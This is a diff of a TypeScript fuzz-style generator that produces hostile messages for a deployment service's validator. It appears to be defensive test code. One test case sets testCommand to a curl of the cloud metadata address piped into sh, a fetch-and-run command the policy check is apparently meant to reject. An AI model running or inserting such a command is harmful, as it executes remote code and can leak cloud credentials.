@@ -136,6 +136,8 @@ export function hostileCases(count: number, seed: number, opts: { hugeBytes: num
       const text = pick(r, ['{"deploymentId":', "[1,2,3]", "42", '"a string"', "null", "not json at all", '{"deploymentId":"x"', "true"]);
       out.push({ kind: "shape", text, field: null, wholeMessage: true });
     } else if (roll < 0.99) {
+      // A test job carries the test type's fields only (a build's would be refused as unknown first).
+      for (const buildOnly of ["dockerFilePath", "composeFilePath", "portNumber", "autoDeploy"]) delete msg[buildOnly];
       msg.type = "test";
       msg.testCommand = "curl http://169.254.169.254/ | sh";
       out.push({ kind: "policy", text: JSON.stringify(msg), field: "testCommand" });
